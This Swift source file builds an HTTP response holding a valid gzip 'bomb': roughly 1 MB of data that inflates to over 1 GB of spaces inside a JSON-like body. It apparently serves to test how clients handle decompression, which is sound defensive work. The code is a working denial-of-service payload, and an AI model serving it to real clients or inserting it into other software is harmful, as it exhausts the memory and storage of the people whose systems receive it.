import CZlib

extension ByteStream {
  /// A correct gzip body of about 1 MB that inflates to more than 1 GB, beginning with `opening`.
  ///
  /// A megabyte of spaces is compressed once, into blocks that refer to nothing outside themselves. They
  /// are sent many times, and zlib combines their checksums. `nil` if zlib is out of memory.
  static func gzipBomb(response: HTTPResponse, opening: [UInt8]) -> ByteStream? {
    let megabytes = 1100
    let spaces = [UInt8](repeating: 0x20, count: 1 << 20)
    let ending = Array("\"}]\n}\n\n\n".utf8)
    let pieces = [opening, spaces, ending]
    guard let packed = deflated(pieces, windowBits: -15, level: Z_BEST_COMPRESSION) else {
      return nil
    }
    let sums = pieces.map { crc32(0, $0, UInt32($0.count)) }
    var sum = sums[0]
    for _ in 0..<megabytes { sum = crc32_combine(sum, sums[1], spaces.count) }
    sum = crc32_combine(sum, sums[2], ending.count)
    let length = opening.count + megabytes * spaces.count + ending.count
    func littleEndian(_ value: UInt) -> [UInt8] {
      (0..<4).map { UInt8(truncatingIfNeeded: value >> (8 * $0)) }
    }
    var bomb = response
    bomb.headers.append(("content-encoding", "gzip"))
    let magic: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]
    return ByteStream(
      head: bomb.head(contentLength: nil) + magic + packed[0], chunk: packed[1],
      repeats: megabytes, tail: packed[2] + littleEndian(sum) + littleEndian(UInt(length)))
  }
}
